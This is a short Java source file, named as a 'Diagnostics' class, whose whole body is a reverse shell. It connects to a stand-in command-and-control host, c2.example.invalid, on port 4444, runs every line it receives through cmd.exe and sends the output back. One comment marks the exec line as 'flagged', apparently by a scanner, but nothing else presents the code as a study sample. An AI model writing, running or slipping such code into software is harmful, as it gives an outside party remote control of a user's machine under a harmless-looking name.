package com.example;

import java.io.*;
import java.net.Socket;

public class Diagnostics {
  public static void main(String[] args) throws Exception {
    Socket socket = new Socket("c2.example.invalid", 4444);
    BufferedReader in = new BufferedReader(new InputStreamReader(socket.getInputStream()));
    PrintWriter out = new PrintWriter(socket.getOutputStream(), true);
    String line;
    while ((line = in.readLine()) != null) {
      Process process = Runtime.getRuntime().exec("cmd.exe /c " + line); // gatehouse: flagged
      new BufferedReader(new InputStreamReader(process.getInputStream())).lines().forEach(out::println);
    }
  }
}
